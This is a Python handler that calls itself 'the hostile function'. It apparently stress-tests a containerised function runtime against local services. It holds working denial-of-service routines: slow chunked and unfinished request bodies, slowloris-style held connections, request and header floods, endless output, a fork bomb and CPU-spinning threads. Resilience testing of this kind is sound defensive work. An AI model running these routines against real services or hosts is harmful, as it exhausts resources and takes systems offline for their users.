"""The hostile function: it does what `event["attack"]` names, for `event["seconds"]` seconds.

The file is deployed unchanged and runs in a container, so it imports only the standard library.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

RUNTIME_API = ("127.0.0.1", 9001)
TASK_SERVICE = ("127.0.0.1", 9002)
MEGABYTE = 1024 * 1024
_BATCH = 16384  # chunks, or requests, that are handed to the kernel at once
_HOST = b"Host: localhost:9002\r\n"


def handler(event: dict[str, Any], context: Any) -> str:
    end = time.monotonic() + event["seconds"]
    ATTACKS[event["attack"]](end, context)
    return "done"


def again(end: float, attempt: Callable[[], None], times: int = 1) -> None:
    """Has so many threads attempt it again and again, whatever the server does to them."""

    def go_on() -> None:
        while time.monotonic() < end:
            with suppress(OSError):
                attempt()
            time.sleep(0.001)

    threads = [threading.Thread(target=go_on, daemon=True) for _ in range(times)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(end - time.monotonic(), 0))


def dial(address: tuple[str, int], end: float) -> socket.socket:
    return socket.create_connection(address, timeout=max(end - time.monotonic(), 0.01))


def pour(line: socket.socket, batch: bytes, end: float) -> None:
    while time.monotonic() < end:
        line.sendall(batch)


def chunks(end: float, address: tuple[str, int], path: str, connections: int) -> None:
    head = f"POST {path} HTTP/1.1\r\n".encode() + _HOST + b"Transfer-Encoding: chunked\r\n\r\n"

    def attempt() -> None:
        with dial(address, end) as line:
            line.sendall(head)
            pour(line, b"1\r\nx\r\n" * _BATCH, end)

    again(end, attempt, connections)


def chunks_to_api(end: float, _: Any) -> None:
    chunks(end, TASK_SERVICE, "/tasks/v1/", 1)


def chunks_to_runtime_api(end: float, context: Any) -> None:
    chunks(end, RUNTIME_API, response_path(context), 8)


def bodies(end: float, address: tuple[str, int], path: str) -> None:
    head = f"POST {path} HTTP/1.1\r\n".encode() + _HOST + b"Content-Type: application/json\r\n"

    def attempt() -> None:
        with dial(address, end) as line:
            line.sendall(head + b"Content-Length: 100000000\r\n\r\n")
            for _ in range(70):
                line.sendall(b" " * MEGABYTE)
            time.sleep(max(end - time.monotonic(), 0))

    again(end, attempt, 20)


def bodies_to_api(end: float, _: Any) -> None:
    bodies(end, TASK_SERVICE, "/tasks/v1/")


def bodies_to_runtime_api(end: float, context: Any) -> None:
    bodies(end, RUNTIME_API, response_path(context))


def response_path(context: Any) -> str:
    return f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response"


def held(end: float, _: Any) -> None:
    lines: list[socket.socket] = []
    while time.monotonic() < end:
        with suppress(OSError):
            if len(lines) < 128:
                lines.append(dial(TASK_SERVICE, end))
                lines[-1].sendall(b"GET /health HTTP/1.1\r\n")
                continue
        time.sleep(0.05)


def calls(end: float, _: Any) -> None:
    def attempt() -> None:
        with dial(TASK_SERVICE, end) as line:
            line.sendall(b"GET /health HTTP/1.1\r\n" + _HOST + b"Connection: close\r\n\r\n")
            while line.recv(65536):
                pass

    again(end, attempt, 8)


def pipelining(end: float, _: Any) -> None:
    batch = (b"GET /health HTTP/1.1\r\n" + _HOST + b"\r\n") * 1000

    def attempt() -> None:
        with dial(TASK_SERVICE, end) as line:
            line.setblocking(False)
            left = batch
            while time.monotonic() < end:  # answers are read, so that it can go on
                with suppress(BlockingIOError):
                    left = left[line.send(left) :] or batch
                with suppress(BlockingIOError):
                    if not line.recv(MEGABYTE):
                        return

    again(end, attempt, 4)


def headers(end: float, _: Any) -> None:
    batch = b"X-Twig: " + b"x" * 1000 + b"\r\n"

    def attempt() -> None:
        with dial(TASK_SERVICE, end) as line:
            line.sendall(b"GET /health HTTP/1.1\r\n" + _HOST)
            pour(line, batch * 64, end)

    again(end, attempt, 8)


def output(end: float, _: Any) -> None:
    line = "a line of output that nobody wants to read, over and over again " * 4
    while time.monotonic() < end:
        sys.stdout.write(f"{line}\n")


def fork_bomb(end: float, _: Any) -> None:
    children = []
    while time.monotonic() < end:
        try:
            child = os.fork()
        except OSError:
            time.sleep(0.001)
            continue
        if child == 0:
            while time.monotonic() < end:
                with suppress(OSError):
                    if os.fork() == 0:
                        continue
            os._exit(0)
        children.append(child)


def spin(end: float, _: Any) -> None:
    def turn() -> None:
        while time.monotonic() < end:
            pass

    again(end, turn, 4)


ATTACKS: dict[str, Callable[[float, Any], None]] = {
    "one-byte chunks to the API": chunks_to_api,
    "one-byte chunks to the Runtime API, 8 connections": chunks_to_runtime_api,
    "20 connections with 70 MB of an unfinished body, to the API": bodies_to_api,
    "the same to the Runtime API": bodies_to_runtime_api,
    "128 connections held open, in the middle of a request": held,
    "a flood of calls, each by a connection of its own": calls,
    "pipelining on 4 connections": pipelining,
    "headers without an end, 8 connections": headers,
    "output without an end": output,
    "a fork bomb": fork_bomb,
    "4 threads that spin": spin,
}
